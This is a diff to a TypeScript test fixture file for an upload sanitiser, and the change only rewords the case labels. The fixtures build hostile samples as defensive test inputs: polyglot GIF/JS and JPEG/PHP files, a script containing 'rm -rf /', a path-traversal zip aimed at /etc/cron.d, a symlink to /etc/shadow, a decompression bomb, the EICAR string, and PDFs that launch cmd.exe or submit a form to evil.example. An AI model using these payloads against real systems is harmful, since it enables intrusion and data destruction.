@@ -5,7 +5,7 @@ import { zip } from './archives.ts';
 import { objectStream, pagesOf, pdf, stream } from './pdfs.ts';
 import { gif, hugePng, jpeg, jpegWithComment, png, pngWithText, progressive, tiff, webp, withLocation } from './pictures.ts';
 
-/** What becomes of a file: kept, without what was planted in it, or not taken, and why (quality S4). */
+/** The outcome of an upload: KEPT (stored without the planted content) or the reason it is refused (quality S4). */
 export type Outcome = readonly [file: string, bytes: Buffer, outcome: 'KEPT' | Refusal, planted?: string];
 
 const SCRIPT = '<script>alert(1)</script>';
@@ -14,7 +14,7 @@ const text = (s: string) => Buffer.from(s, 'latin1');
 const onOpen = (action: string) => pdf({ catalog: '/OpenAction 4 0 R', objects: [action] });
 const JS = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
 
-/** Ten gibibytes of nothing in ten mebibytes: one piece of a deflate stream, again and again. */
+/** Ten gibibytes of zeros in ten mebibytes: one piece of a deflate stream, repeated. */
 function bomb(): Buffer {
   const piece = deflateRawSync(Buffer.alloc(16 * 1_048_576), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
   return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: 640 }, () => piece)]);
@@ -33,14 +33,14 @@ const PLAIN: readonly Outcome[] = [
   ['one byte', text('x'), 'UNSUPPORTED'],
   ['a picture as JPEG', jpeg, 'KEPT'],
   ['a picture as PNG', png, 'KEPT'],
-  ['a picture that loads bit by bit', progressive, 'KEPT'],
+  ['a progressive JPEG', progressive, 'KEPT'],
   ['a PDF', pdf(), 'KEPT'],
-  ['a PDF with packed objects', pdf({ objects: [objectStream(9, ['<< /A 1 >>', '<< /B 2 >>'])] }), 'KEPT'],
-  ['a PDF with a form that was filled in', pdf({ catalog: '/AcroForm << /Fields [] >>' }), 'KEPT'],
+  ['a PDF with compressed objects', pdf({ objects: [objectStream(9, ['<< /A 1 >>', '<< /B 2 >>'])] }), 'KEPT'],
+  ['a PDF with a filled-in form', pdf({ catalog: '/AcroForm << /Fields [] >>' }), 'KEPT'],
   ['a PDF with a link', pdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://lender.example) >> >>'] }), 'KEPT'],
-  ['a PDF that was changed and saved again', Buffer.concat([pdf(), pdf({ header: '' })]), 'KEPT'],
-  ['a PDF whose text speaks of /JavaScript things', pdf({ objects: [stream('BT (see /JS in the manual) Tj ET')] }), 'KEPT'],
-  ['a picture that says where it was taken', withLocation, 'KEPT', 'PLANTED-EXIF'],
+  ['a PDF with an incremental update', Buffer.concat([pdf(), pdf({ header: '' })]), 'KEPT'],
+  ['a PDF whose text mentions /JavaScript', pdf({ objects: [stream('BT (see /JS in the manual) Tj ET')] }), 'KEPT'],
+  ['a picture with its location', withLocation, 'KEPT', 'PLANTED-EXIF'],
 ];
 
 const OTHER_KINDS: readonly Outcome[] = [
@@ -48,63 +48,63 @@ const OTHER_KINDS: readonly Outcome[] = [
   ['a WebP', webp, 'UNSUPPORTED'],
   ['a TIFF', tiff, 'UNSUPPORTED'],
   ['an SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'UNSUPPORTED'],
-  ['a page called statement.pdf', text(`<!doctype html><html>${SCRIPT}</html>`), 'UNSUPPORTED'],
+  ['an HTML page named statement.pdf', text(`<!doctype html><html>${SCRIPT}</html>`), 'UNSUPPORTED'],
   ['a script', text('#!/bin/sh\nrm -rf /\n'), 'UNSUPPORTED'],
   ['a Windows program', text('MZ\u0090\u0000\u0003'), 'UNSUPPORTED'],
   ['a Linux program', text('\u007fELF\u0002\u0001'), 'UNSUPPORTED'],
   ['a text', text('Dear sir or madam'), 'UNSUPPORTED'],
-  ['a Word file with an entity from outside', office, 'UNSUPPORTED'],
+  ['a Word file with an external entity', office, 'UNSUPPORTED'],
   ['an archive', zip([{ name: 'a.pdf', data: pdf() }]), 'UNSUPPORTED'],
-  ['an archive that leaves its folder', zip([{ name: '../../etc/cron.d/x', data: text('x') }]), 'UNSUPPORTED'],
+  ['an archive with a path outside its folder', zip([{ name: '../../etc/cron.d/x', data: text('x') }]), 'UNSUPPORTED'],
   ['an archive with a link to a secret', zip([{ name: 'x', data: text('/etc/shadow'), link: true }]), 'UNSUPPORTED'],
   ['an archive in an archive', nested, 'UNSUPPORTED'],
   ['an archive that grows to gigabytes', zip([{ name: 'x', data: Buffer.alloc(20_000_000) }]), 'UNSUPPORTED'],
 ];
 
 const TWO_AT_ONCE: readonly Outcome[] = [
-  ['a GIF that is a script', text(`GIF89a/*${'\u0000'.repeat(20)}*/=1;alert(1)`), 'UNSUPPORTED'],
-  ['a PDF that is a page', pdf({ header: `%PDF-1.7\n%<html>${SCRIPT}\n` }), 'MIXED'],
-  ['a PDF after a page', Buffer.concat([text(`<html>${SCRIPT}`), pdf()]), 'UNSUPPORTED'],
-  ['a PDF that begins a kilobyte in', Buffer.concat([Buffer.alloc(1000, 32), pdf()]), 'UNSUPPORTED'],
-  ['a PDF with an archive behind it', pdf({ after: zip([{ name: 'x', data: text('x') }]) }), 'MIXED'],
+  ['a GIF that is also a script', text(`GIF89a/*${'\u0000'.repeat(20)}*/=1;alert(1)`), 'UNSUPPORTED'],
+  ['a PDF that is also an HTML page', pdf({ header: `%PDF-1.7\n%<html>${SCRIPT}\n` }), 'MIXED'],
+  ['a PDF after an HTML page', Buffer.concat([text(`<html>${SCRIPT}`), pdf()]), 'UNSUPPORTED'],
+  ['a PDF that begins after a kilobyte', Buffer.concat([Buffer.alloc(1000, 32), pdf()]), 'UNSUPPORTED'],
+  ['a PDF with an archive appended', pdf({ after: zip([{ name: 'x', data: text('x') }]) }), 'MIXED'],
   ['a PDF with an archive in it', pdf({ objects: [stream(zip([{ name: 'x', data: text('x') }]), '', true)] }), 'MIXED'],
-  ['a PDF with a program behind it', pdf({ after: '\nMZ\u0090\u0000' }), 'MIXED'],
-  ['a PDF that is PHP', pdf({ objects: [stream(PHP, '', true)] }), 'MIXED'],
-  ['a JPEG that is PHP', jpegWithComment(PHP), 'KEPT', '<?php'],
-  ['a JPEG with an archive behind it', Buffer.concat([jpeg, zip([{ name: 'x', data: text('planted-in-zip') }])]), 'KEPT', 'PK\u0003\u0004'],
+  ['a PDF with a program appended', pdf({ after: '\nMZ\u0090\u0000' }), 'MIXED'],
+  ['a PDF that is also PHP', pdf({ objects: [stream(PHP, '', true)] }), 'MIXED'],
+  ['a JPEG that is also PHP', jpegWithComment(PHP), 'KEPT', '<?php'],
+  ['a JPEG with an archive appended', Buffer.concat([jpeg, zip([{ name: 'x', data: text('planted-in-zip') }])]), 'KEPT', 'PK\u0003\u0004'],
   ['a PNG with a script in a comment', pngWithText(SCRIPT), 'KEPT', '<script'],
-  ['a PNG with a page behind it', Buffer.concat([png, text(`<html>${SCRIPT}`)]), 'KEPT', '<html'],
-  ['a page that begins like a JPEG', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(`<html>${SCRIPT}`)]), 'DAMAGED'],
+  ['a PNG with an HTML page appended', Buffer.concat([png, text(`<html>${SCRIPT}`)]), 'KEPT', '<html'],
+  ['an HTML page that begins like a JPEG', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(`<html>${SCRIPT}`)]), 'DAMAGED'],
 ];
 
 const INFECTED: readonly Outcome[] = [
   ['the test virus', text(EICAR), 'INFECTED'],
   ['the test virus in a JPEG', jpegWithComment(EICAR), 'INFECTED'],
-  ['the test virus behind a PNG', Buffer.concat([png, text(EICAR)]), 'INFECTED'],
+  ['the test virus appended to a PNG', Buffer.concat([png, text(EICAR)]), 'INFECTED'],
   ['the test virus in a PDF', pdf({ objects: [stream(EICAR, '', true)] }), 'INFECTED'],
-  ['the test virus packed in a PDF', pdf({ objects: [stream(`${'x'.repeat(65_500)}${EICAR}`)] }), 'INFECTED'],
+  ['the test virus compressed in a PDF', pdf({ objects: [stream(`${'x'.repeat(65_500)}${EICAR}`)] }), 'INFECTED'],
 ];
 
 const ACTIVE: readonly Outcome[] = [
   ['a PDF that runs a script', onOpen(JS), 'ACTIVE'],
-  ['a PDF that spells its script otherwise', onOpen('<< /S /J#61va#53cript /#4AS (app.alert\\(1\\)) >>'), 'ACTIVE'],
-  ['a PDF with a script in packed objects', pdf({ catalog: '/OpenAction 9 0 R', objects: [objectStream(9, [JS])] }), 'ACTIVE'],
+  ['a PDF with an escaped script name', onOpen('<< /S /J#61va#53cript /#4AS (app.alert\\(1\\)) >>'), 'ACTIVE'],
+  ['a PDF with a script in compressed objects', pdf({ catalog: '/OpenAction 9 0 R', objects: [objectStream(9, [JS])] }), 'ACTIVE'],
   ['a PDF with a script inside a stream', pdf({ objects: [stream(`9 0 obj ${JS} endobj`, '', true)] }), 'ACTIVE'],
-  ['a PDF with a script nobody points to', pdf({ objects: [JS] }), 'ACTIVE'],
+  ['a PDF with an unreferenced script', pdf({ objects: [JS] }), 'ACTIVE'],
   ['a PDF that starts a program', onOpen('<< /S /Launch /F (cmd.exe) >>'), 'ACTIVE'],
-  ['a PDF with a file in it', pdf({ objects: [stream('x', '/Type /EmbeddedFile')] }), 'ACTIVE'],
+  ['a PDF with an embedded file', pdf({ objects: [stream('x', '/Type /EmbeddedFile')] }), 'ACTIVE'],
   ['a PDF that opens another', onOpen('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>'), 'ACTIVE'],
-  ['a PDF that sends a form away', onOpen('<< /S /SubmitForm /F (https://evil.example) >>'), 'ACTIVE'],
-  ['a PDF that is an XML form', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [stream('<xdp/>')] }), 'ACTIVE'],
-  ['a PDF with a film', pdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'ACTIVE'],
+  ['a PDF that submits a form', onOpen('<< /S /SubmitForm /F (https://evil.example) >>'), 'ACTIVE'],
+  ['a PDF with an XML form', pdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [stream('<xdp/>')] }), 'ACTIVE'],
+  ['a PDF with a video', pdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'ACTIVE'],
 ];
 
 const UNREADABLE: readonly Outcome[] = [
   ['a PDF with a password', pdf({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard /V 5 >>'] }), 'PROTECTED'],
-  ['a PDF with a password, spelled otherwise', pdf({ trailer: '/#45ncrypt 4 0 R', objects: ['<< /Filter /Standard >>'] }), 'PROTECTED'],
-  ['a PDF that is its own page', pdf({ pages: '/Kids [2 0 R] /Count 1' }), 'DAMAGED'],
+  ['a PDF with a password and an escaped name', pdf({ trailer: '/#45ncrypt 4 0 R', objects: ['<< /Filter /Standard >>'] }), 'PROTECTED'],
+  ['a PDF whose page tree contains itself', pdf({ pages: '/Kids [2 0 R] /Count 1' }), 'DAMAGED'],
   [
-    'a PDF whose pages run in a circle',
+    'a PDF with a circular page tree',
     pdf({ pages: '/Kids [4 0 R] /Count 1', objects: ['<< /Type /Pages /Kids [5 0 R] >>', '<< /Type /Pages /Kids [4 0 R] >>'] }),
     'DAMAGED',
   ],
@@ -121,15 +121,15 @@ const UNREADABLE: readonly Outcome[] = [
     'TOO_DENSE',
   ],
   [
-    'a PDF whose objects are packed in an unusual way',
+    'a PDF whose objects are compressed in an unusual way',
     pdf({ objects: [stream('9 0 x', '/Filter /LZWDecode /Type /ObjStm /N 1 /First 4', true)] }),
     'DAMAGED',
   ],
-  ['a PDF whose packed objects are broken', pdf({ objects: [packed(text('not packed'), '/Type /ObjStm /N 1 /First 4')] }), 'DAMAGED'],
-  ['a PDF of open brackets', pdf({ after: `${'('.repeat(2_000_000)}\n%%EOF` }), 'KEPT'],
+  ['a PDF whose compressed objects are broken', pdf({ objects: [packed(text('not packed'), '/Type /ObjStm /N 1 /First 4')] }), 'DAMAGED'],
+  ['a PDF of open parentheses', pdf({ after: `${'('.repeat(2_000_000)}\n%%EOF` }), 'KEPT'],
   ['a PNG of 50,000 by 50,000', hugePng(50_000, 50_000, 1), 'TOO_MANY_PIXELS'],
   ['a PNG of 12,000 by 12,000', hugePng(12_000, 12_000, 1), 'TOO_MANY_PIXELS'],
-  ['a PNG with most of it missing', hugePng(4000, 4000, 10), 'DAMAGED'],
+  ['a PNG with most of its data missing', hugePng(4000, 4000, 10), 'DAMAGED'],
   ['the beginning of a PNG', png.subarray(0, 20), 'DAMAGED'],
   ['half a JPEG', jpeg.subarray(0, jpeg.length / 2), 'DAMAGED'],
 ];
